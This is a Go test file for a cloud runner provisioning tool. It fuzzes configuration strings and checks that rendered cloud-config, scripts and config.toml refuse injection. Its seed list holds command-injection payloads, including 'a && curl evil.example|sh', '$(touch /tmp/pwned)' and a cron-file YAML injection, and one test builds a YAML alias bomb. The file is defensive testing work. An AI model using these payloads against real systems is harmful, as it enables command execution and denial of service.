package stack

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"os/exec"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/goccy/go-yaml"
	"github.com/invopop/jsonschema"
	"github.com/pelletier/go-toml/v2"

	"github.com/provision-dev/provision/pkg/plan"
	"github.com/provision-dev/provision/pkg/provision/bootstrap"
	"github.com/provision-dev/provision/pkg/provision/config"
	"github.com/provision-dev/provision/pkg/state"
)

// hostileValues are what a configuration author (or whoever can change
// the file: a merge request, a template) could try to turn into code on
// the manager, structure in its cloud-config, or tags of another stack.
var hostileValues = []string{
	"$(touch /tmp/pwned)", "`id`", "a;reboot", "a && curl evil.example|sh", "x' y", `x" y`, "a\\b",
	"a\nb", "a\rb", "a\tb", "line\u2028break", "para\u2029break", "next\u0085line", "bidi\u202egnp.exe",
	"esc\x1b[31mred", "osc\x1b]8;;https://evil.example\x07link", "nul\x00byte",
	"k1,provision:stack,other", "@RUNNER_TOKEN@", "x@RUNNER_TOKEN@y", "@AUTOSCALING_GROUP@", "@PRIVATE_IP@", "@TOKEN_EXPIRES_AT@",
	"https://gitlab.example.com/$(id)", "https://gitlab.example.com/?q=`id`", "https://gitlab.example.com/#a;b",
	"https://gitlab.example.com/a b", "https://gitlab.example.com/%0aid", "https://git\u2028lab.example.com",
	"alpine:latest\n  - path: /etc/cron.d/x", "alpine\u2028write_files:", "registry.example.com:5000/ci/node:22",
}

// fuzzBases are complete configurations of both executors, with every
// option that renders text on: a fuzzed value replaces one string in them.
var fuzzBases = map[string]string{
	"docker-autoscaler": `{"stack":"fz","region":"eu-west-1","tags":{"team":"ci"},
 "gitlab":{"url":"https://gitlab.example.com","security_group_id":"sg-0123456789abcdef0","ssh_source_cidrs":["203.0.113.10/32"],
   "create_runner":{"description":"d","tag_list":["a"]}},
 "manager":{"metrics_cidrs":["203.0.113.0/24"],"runner_version":"18.5.0","key_name":"k"},
 "runners":{"executor":"docker-autoscaler","ssh_keys":"instance-connect","instance_types":["t3a.medium"],
   "schedule":[{"periods":["* 8-19 * * mon-fri"],"timezone":"Asia/Tokyo","idle_count":1,"idle_time":"20m"}]},
 "cache":{"s3":true},"state":{"s3":{"bucket":"fz-state","key":"fz.json"}}}`,
	"docker+machine": `{"stack":"fz","region":"eu-west-1","tags":{"team":"ci","cost center":"a.b"},
 "gitlab":{"url":"https://gitlab.example.com/gitlab","security_group_id":"sg-0123456789abcdef0"},
 "runners":{"executor":"docker+machine","spot":true,"ssh_user":"admin","ami":"ami-0123456789abcdef0"}}`,
}

// stringKeys lists every string in the configuration, found in its
// schema: keys of maps (KEY) and their values, items of lists ([0]) and
// fields of list items. A string field added later is fuzzed too.
func stringKeys(s *jsonschema.Schema, path []string) [][]string {
	var out [][]string
	switch s.Type {
	case "string":
		out = append(out, path)
	case "array":
		if s.Items != nil {
			out = append(out, stringKeys(s.Items, append(slices.Clone(path), "[0]"))...)
		}
	case "object":
		if s.Properties != nil {
			for p := s.Properties.Oldest(); p != nil; p = p.Next() {
				out = append(out, stringKeys(p.Value, append(slices.Clone(path), p.Key))...)
			}
		}
		if s.AdditionalProperties != nil && s.AdditionalProperties.Type == "string" {
			out = append(out, append(slices.Clone(path), "KEY"), append(slices.Clone(path), "VALUE"))
		}
	}
	return out
}

// withValue is the base configuration with the string at path set to v.
func withValue(t *testing.T, base string, path []string, v string) []byte {
	var doc map[string]any
	if err := json.Unmarshal([]byte(base), &doc); err != nil {
		t.Fatal(err)
	}
	var node any = doc
	for i, k := range path {
		last := i == len(path)-1
		switch n := node.(type) {
		case map[string]any:
			switch {
			case k == "KEY":
				n[v] = "x"
				return mustJSON(t, doc)
			case k == "VALUE":
				n["fuzzed"] = v
				return mustJSON(t, doc)
			case last:
				n[k] = v
				return mustJSON(t, doc)
			}
			next, ok := n[k]
			if !ok {
				if path[i+1] == "[0]" {
					next = []any{}
				} else {
					next = map[string]any{}
				}
				n[k] = next
			}
			node = next
		case []any:
			if len(n) == 0 {
				return nil // no list here in this base
			}
			if last {
				n[0] = v
				return mustJSON(t, doc)
			}
			node = n[0]
		}
	}
	return nil
}

func mustJSON(t *testing.T, v any) []byte {
	b, err := json.Marshal(v) // JSON is YAML; Go escapes U+2028 and U+2029
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// renderManager renders the manager's user-data of cfg as up would, with
// the ids the other steps would have recorded.
func renderManager(t *testing.T, cfg *config.Config) []byte {
	t.Helper()
	ud, _ := render(t, cfg)
	return ud
}

// render renders the manager's user-data and the runner configuration
// parameter of cfg as up would.
func render(t *testing.T, cfg *config.Config) ([]byte, string) {
	t.Helper()
	ledger := state.NewLedger(state.New(cfg.Stack, cfg.Region), nil)
	e := &Env{Cfg: cfg, Region: cfg.Region, Zone: cfg.Region + "a", Ledger: ledger}
	for step, id := range map[plan.ID]string{StepVPC: "vpc-1", StepPrivateSubnet: "subnet-1", StepRunnerGroup: "sg-1"} {
		if err := e.records().Created(step, "x", id, nil); err != nil {
			t.Fatal(err)
		}
	}
	ud, err := managerInstanceKind{env: e}.userData(context.Background(), "fz-runners-abc123")
	if err != nil {
		t.Fatalf("a valid configuration does not render: %v", err)
	}
	template, err := e.RunnerConfig()
	if err != nil {
		t.Fatalf("a valid configuration renders no runner configuration: %v", err)
	}
	return ud, template
}

var bashChecked sync.Map // script text -> nil: passed bash -n once

// checkUserData holds the rendered user-data to what the configuration
// says: plain ASCII (no character a YAML reader could take for a line
// break), exactly the files of the base configuration, scripts bash
// accepts, the values file and the runner configuration (config.toml, from
// its parameter) giving back the same values.
func checkUserData(t *testing.T, cfg *config.Config, ud []byte, template string, wantFiles []string) {
	t.Helper()
	for i, c := range ud {
		if (c < 0x20 && c != '\n') || c > 0x7e {
			t.Fatalf("user-data byte %d is %#x: only plain ASCII may reach the YAML", i, c)
		}
	}
	var cc struct {
		WriteFiles []struct{ Path, Encoding, Content string } `yaml:"write_files"`
		Runcmd     [][]string                                 `yaml:"runcmd"`
	}
	if err := yaml.Unmarshal(ud, &cc); err != nil {
		t.Fatalf("user-data is not YAML: %v", err)
	}
	files := map[string]string{}
	var paths []string
	for _, f := range cc.WriteFiles {
		content := f.Content
		if f.Encoding == "b64" {
			b, err := base64.StdEncoding.DecodeString(content)
			if err != nil {
				t.Fatalf("%s: %v", f.Path, err)
			}
			content = string(b)
		}
		files[f.Path] = content
		paths = append(paths, f.Path)
	}
	sort.Strings(paths)
	if !slices.Equal(paths, wantFiles) || len(cc.Runcmd) != 1 {
		t.Fatalf("user-data writes %v and runs %v; want %v and the boot script", paths, cc.Runcmd, wantFiles)
	}
	for path, content := range files {
		if !strings.HasPrefix(path, bootstrap.SbinDir) {
			continue
		}
		// The journal shipper is Python, and the same text whatever the
		// configuration says: it reads every value from the values file.
		if strings.HasPrefix(content, "#!/usr/bin/python3") {
			if content != bootstrap.LogShipperScript {
				t.Fatalf("%s is not the shipper as written: the configuration reached its text", path)
			}
			continue
		}
		if _, done := bashChecked.Load(content); done {
			continue
		}
		cmd := exec.Command("bash", "-n")
		cmd.Stdin = strings.NewReader(content)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s does not pass bash -n: %v\n%s", path, err, out)
		}
		bashChecked.Store(content, nil)
	}
	values := map[string]string{}
	for _, line := range strings.Split(strings.TrimSuffix(files[bootstrap.ValuesPath], "\n"), "\n") {
		k, v, _ := strings.Cut(line, "=")
		values[k] = v
	}
	if values["gitlab_url"] != strings.TrimRight(cfg.GitLab.URL, "/") || values["region"] != cfg.Region || values["stack"] != cfg.Stack {
		t.Errorf("the values file does not give back the configuration's: %q", files[bootstrap.ValuesPath])
	}
	for _, p := range []string{bootstrap.TokenPlaceholder, bootstrap.TokenObtainedPlaceholder, bootstrap.TokenExpiresPlaceholder} {
		if n := strings.Count(template, p); n != 1 {
			t.Fatalf("config.toml holds %s %d times: the boot would put the token where it does not belong", p, n)
		}
	}
	// The group and the listen address, at most where the tool puts them.
	wantGroup, wantListen := 0, 0
	if cfg.Autoscaler() {
		wantGroup = 1
	}
	if len(cfg.Manager.MetricsCIDRs) > 0 {
		wantListen = 1
	}
	if n := strings.Count(template, bootstrap.GroupPlaceholder); n != wantGroup {
		t.Fatalf("config.toml holds %s %d times, want %d", bootstrap.GroupPlaceholder, n, wantGroup)
	}
	if n := strings.Count(template, bootstrap.ListenPlaceholder); n != wantListen {
		t.Fatalf("config.toml holds %s %d times, want %d", bootstrap.ListenPlaceholder, n, wantListen)
	}
	var doc struct {
		Runners []struct {
			URL     string
			Docker  struct{ Image string }
			Machine struct {
				MachineOptions []string
			}
			Autoscaler struct {
				Policy []struct {
					Periods  []string
					Timezone string
				}
			}
		}
	}
	filled := strings.NewReplacer(bootstrap.TokenPlaceholder, "glrt-x", bootstrap.TokenObtainedPlaceholder, "2026-01-01T00:00:00Z",
		bootstrap.TokenExpiresPlaceholder, "0001-01-01T00:00:00Z", bootstrap.ListenPlaceholder, "10.0.0.1", bootstrap.GroupPlaceholder, "fz-runners-abc123").Replace(template)
	if err := toml.Unmarshal([]byte(filled), &doc); err != nil || len(doc.Runners) != 1 {
		t.Fatalf("config.toml does not decode: %v\n%s", err, filled)
	}
	r := doc.Runners[0]
	if r.URL != cfg.GitLab.URL || r.Docker.Image != cfg.Runners.Image {
		t.Errorf("config.toml: url %q image %q, want %q %q", r.URL, r.Docker.Image, cfg.GitLab.URL, cfg.Runners.Image)
	}
	for i, s := range cfg.Runners.Schedule {
		if got := r.Autoscaler.Policy[i+1]; !slices.Equal(got.Periods, s.Periods) || got.Timezone != s.Timezone {
			t.Errorf("config.toml policy %d: %+v, want %+v", i+1, got, s)
		}
	}
	if cfg.Runners.Executor == config.ExecutorDockerMachine {
		checkMachineTags(t, cfg, r.Machine.MachineOptions)
	}
}

// checkMachineTags: the driver's tag list gives back exactly the stack's
// tags (it splits "key1,value1,key2,value2" at every comma).
func checkMachineTags(t *testing.T, cfg *config.Config, opts []string) {
	t.Helper()
	for _, o := range opts {
		list, ok := strings.CutPrefix(o, "amazonec2-tags=")
		if !ok {
			continue
		}
		parts := strings.Split(list, ",")
		got := map[string]string{}
		for i := 0; i+1 < len(parts); i += 2 {
			got[parts[i]] = parts[i+1]
		}
		want := map[string]string{TagStack: cfg.Stack, TagStep: string(StepMachines)}
		for k, v := range cfg.Tags {
			want[k] = v
		}
		if len(parts)%2 != 0 || len(got) != len(want) {
			t.Fatalf("amazonec2-tags=%s gives tags %v, want %v", list, got, want)
		}
		for k, v := range want {
			if got[k] != v {
				t.Fatalf("amazonec2-tags=%s gives %s=%q, want %q", list, k, got[k], v)
			}
		}
		return
	}
	t.Fatal("no amazonec2-tags option")
}

// fuzzTarget is one base with one of its strings.
type fuzzTarget struct {
	base      string
	path      []string
	wantFiles []string
}

func fuzzTargets(t *testing.T) []fuzzTarget {
	keys := stringKeys(config.ConfigSchema(), nil)
	var out []fuzzTarget
	for _, name := range []string{"docker-autoscaler", "docker+machine"} {
		cfg, err := config.ParseConfig(name, []byte(fuzzBases[name]), "")
		if err != nil {
			t.Fatalf("base %s: %v", name, err)
		}
		var cc struct {
			WriteFiles []struct{ Path string } `yaml:"write_files"`
		}
		if err := yaml.Unmarshal(renderManager(t, cfg), &cc); err != nil {
			t.Fatal(err)
		}
		var files []string
		for _, f := range cc.WriteFiles {
			files = append(files, f.Path)
		}
		sort.Strings(files)
		for _, k := range keys {
			out = append(out, fuzzTarget{base: fuzzBases[name], path: k, wantFiles: files})
		}
	}
	return out
}

// tryValue puts v at every string of the configuration in turn; whatever
// validates must render safely.
func tryValue(t *testing.T, targets []fuzzTarget, v string) {
	for _, tg := range targets {
		data := withValue(t, tg.base, tg.path, v)
		if data == nil {
			continue
		}
		cfg, err := config.ParseConfig("fuzz.yaml", data, "")
		if err != nil {
			continue
		}
		ud, template := render(t, cfg)
		checkUserData(t, cfg, ud, template, tg.wantFiles)
	}
}

// Whatever validates renders user-data whose YAML holds exactly the
// intended files, whose scripts pass bash -n and whose config.toml decodes
// to the same values: `go test -fuzz FuzzConfigValues ./pkg/provision/stack`
// explores further than the seeds, which run with every `go test`.
func FuzzConfigValues(f *testing.F) {
	if _, err := exec.LookPath("bash"); err != nil {
		f.Skip("bash is not installed")
	}
	for _, v := range hostileValues {
		f.Add(v)
	}
	var targets []fuzzTarget
	f.Fuzz(func(t *testing.T, v string) {
		if targets == nil {
			targets = fuzzTargets(t)
		}
		tryValue(t, targets, v)
	})
}

// Every hostile value is refused wherever it would reach a script, the
// cloud-config, config.toml or a tag list, with the key named.
func TestHostileValuesAreRefusedWithTheirKey(t *testing.T) {
	sensitive := [][]string{{"stack"}, {"region"}, {"gitlab", "url"}, {"runners", "image"}, {"tags", "KEY"}, {"tags", "VALUE"},
		{"manager", "runner_version"}, {"runners", "ssh_user"}, {"runners", "schedule", "[0]", "timezone"}}
	accepted := map[string]bool{"registry.example.com:5000/ci/node:22": true}
	for _, path := range sensitive {
		for _, v := range hostileValues {
			if accepted[v] || (path[0] == "tags" && config.TagValuePattern.MatchString(v)) {
				continue // AWS's tag characters only: a plain tag
			}
			data := withValue(t, fuzzBases["docker-autoscaler"], path, v)
			_, err := config.ParseConfig("hostile.yaml", data, "")
			key := strings.Join(path, ".")
			key = strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(key, ".[0]", "[0]"), ".KEY", "."), ".VALUE", ".fuzzed")
			if err == nil {
				t.Errorf("%s = %q was accepted", key, v)
				continue
			}
			if !strings.Contains(err.Error(), key) && !strings.Contains(err.Error(), strings.TrimSuffix(key, ".")) {
				t.Errorf("%s = %q: the error does not name the key:\n%v", key, v, err)
			}
		}
	}
	// Control characters and separators are refused in every string.
	for _, path := range stringKeys(config.ConfigSchema(), nil) {
		for _, v := range []string{"a\nb", "a\u2028b", "a\u0085b", "a\x1b[2Jb", "a\u202eb"} {
			if data := withValue(t, fuzzBases["docker-autoscaler"], path, v); data != nil {
				if _, err := config.ParseConfig("hostile.yaml", data, ""); err == nil {
					t.Errorf("%v = %q was accepted", path, v)
				}
			}
		}
	}
}

// A YAML alias bomb is refused in milliseconds with one line, before
// anything expands it.
func TestAliasBombIsRefused(t *testing.T) {
	var b strings.Builder
	b.WriteString("a: &a [x,x,x,x,x,x,x,x,x]\n")
	for c := 'b'; c <= 'i'; c++ {
		prev := string(c - 1)
		b.WriteString(string(c) + ": &" + string(c) + " [" + strings.Repeat("*"+prev+",", 8) + "*" + prev + "]\n")
	}
	b.WriteString("stack: x\n")
	_, err := config.ParseConfig("bomb.yaml", []byte(b.String()), "")
	if err == nil || !strings.Contains(err.Error(), "aliases") || strings.Count(err.Error(), "\n") > 0 {
		t.Fatalf("the alias bomb (%d bytes) gave %v", b.Len(), err)
	}
	// A few aliases, as people write them, stay fine.
	ok := "stack: x\nregion: eu-west-1\ngitlab:\n  ssh_source_cidrs: &office [203.0.113.0/24]\nmanager:\n  metrics_cidrs: *office\n"
	if _, err := config.ParseConfig("ok.yaml", []byte(ok), ""); err != nil {
		t.Fatalf("ordinary aliases: %v", err)
	}
}

// Findings of an attack on the parser and the checks: each is refused, in
// a line, quickly.
func TestHostileFilesAreRefusedQuickly(t *testing.T) {
	base := "stack: fz\nregion: eu-west-1\n"
	for name, c := range map[string]struct{ file, want string }{
		// !!binary decodes after the checks: "@RUNNER_TOKEN@" as a tag.
		"binary tag":        {base + "tags:\n  team: !!binary QFJVTk5FUl9UT0tFTkA=\n", "YAML tag"},
		"binary key":        {base + "tags:\n  !!binary QFJVTk5FUl9UT0tFTkA=: x\n", "YAML tag"},
		"custom tag":        {base + "runners:\n  image: !foo alpine\n", "YAML tag"},
		"nested brackets":   {"stack: " + strings.Repeat("[", 10000) + strings.Repeat("]", 10000) + "\n", "brackets nested"},
		"long line":         {base + "runners:\n  image: " + strings.Repeat("a", 5000) + "\n", "longer than"},
		"many values":       {base + "gitlab:\n  ssh_source_cidrs:\n" + strings.Repeat("  - ["+strings.Repeat("1,", 1000)+"1]\n", 11), "values"},
		"long value":        {base + "gitlab:\n  create_runner:\n    description: >\n" + strings.Repeat("      "+strings.Repeat("x", 100)+"\n", 50), "characters long"},
		"aliased long text": {base + "runners: {image: &a \"" + strings.Repeat("x", 3000) + "\"}\ngitlab: {ssh_source_cidrs: [" + strings.Repeat("*a, ", 100) + "*a]}\n", "aliases"},
		"state key pattern": {base + "state: {s3: {bucket: shared-state, key: \"*\"}}\n", "state.s3.key"},
		"state key dots":    {base + "state: {s3: {bucket: shared-state, key: a/../b.json}}\n", "state.s3.key"},
		"zero width":        {base + "tags: {team: \"c\\u200bi\"}\n", "U+200B"},
	} {
		start := time.Now()
		_, err := config.ParseConfig("hostile.yaml", []byte(c.file), "")
		took := time.Since(start)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: got %v, want an error about %q", name, err, c.want)
			continue
		}
		if took > time.Second || len(err.Error()) > 2000 {
			t.Errorf("%s: %v and %d characters of error, want a short error in milliseconds", name, took, len(err.Error()))
		}
	}
}
